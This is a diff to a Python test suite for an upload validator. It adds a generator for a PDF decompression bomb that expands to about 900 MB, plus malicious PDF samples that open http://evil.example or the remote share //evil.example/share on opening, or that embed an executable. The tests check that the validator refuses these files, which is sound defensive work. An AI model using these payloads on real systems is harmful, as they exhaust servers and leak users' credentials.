@@ -45,6 +45,36 @@ def pdf(change=None, **options):
     return output.getvalue()
 
 
+def object_stream_bomb(size):
+    """A PDF whose objects stand in a stream that unpacks to ``size`` bytes."""
+    packer = zlib.compressobj(9)
+    packed = packer.compress(b"4 0     (x)")
+    blank = b" " * 1024 * 1024
+    for _part in range(size // len(blank)):
+        packed += packer.compress(blank)
+    packed += packer.flush()
+    bodies = {
+        1: b"<</Type/Catalog/Pages 2 0 R>>",
+        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
+        5: b"<</Type/ObjStm/N 1/First 8/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
+        % (len(packed), packed),
+    }
+    data, places = b"%PDF-1.7\n", {}
+    for number, body in bodies.items():
+        places[number] = len(data)
+        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
+    places[6] = len(data)
+    rows = b"\0" * 6
+    for number in range(1, 7):
+        kind, where = (2, 5) if number == 4 else (1, places[number])
+        rows += bytes([kind]) + where.to_bytes(4, "big") + b"\0"
+    return data + (
+        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%b\nendstream\n"
+        b"endobj\nstartxref\n%d\n%%%%EOF" % (len(rows), rows, places[6])
+    )
+
+
 def open_action(document, action):
     document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(action))
 
@@ -180,6 +210,32 @@ class TestUpload(TransactionCase):
         self.assertIn("a", self.refuse("a.pdf", locked, "document"))
         for data in (SVG, HTML, EXE, ZIP):
             self.refuse("a.pdf", data, "document")
+
+    def test_leak_document_that_acts_on_opening_or_carries_a_file(self):
+        def uri(document):
+            open_action(document, {"/S": pikepdf.Name.URI, "/URI": "http://evil.example"})
+
+        def remote(document):
+            open_action(document, {"/S": pikepdf.Name.GoToR, "/F": "//evil.example/share"})
+
+        def associated(document):
+            document.Root.AF = pikepdf.Array(
+                [pikepdf.Dictionary(EF=pikepdf.Dictionary(F=document.make_stream(EXE)))]
+            )
+
+        for change in (uri, remote, associated):
+            with self.subTest(change=change.__name__):
+                self.refuse("a.pdf", pdf(change), "document")
+
+    def test_leak_document_that_unpacks_to_gigabytes(self):
+        def spoken_for(document):
+            document.Root.X = pikepdf.String(b"0" * 100)
+
+        packed = pdf(spoken_for, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+        self.assertTrue(upload.check_upload("a.pdf", packed, "document", env=self.env))
+        bomb = object_stream_bomb(900 * 1024 * 1024)
+        self.assertLess(len(bomb), 2 * 1024 * 1024)
+        self.refuse("a.pdf", bomb, "document")
 
     def test_a_message_for_the_citizen(self):
         text = self.refuse("<script>.jpg", EXE)
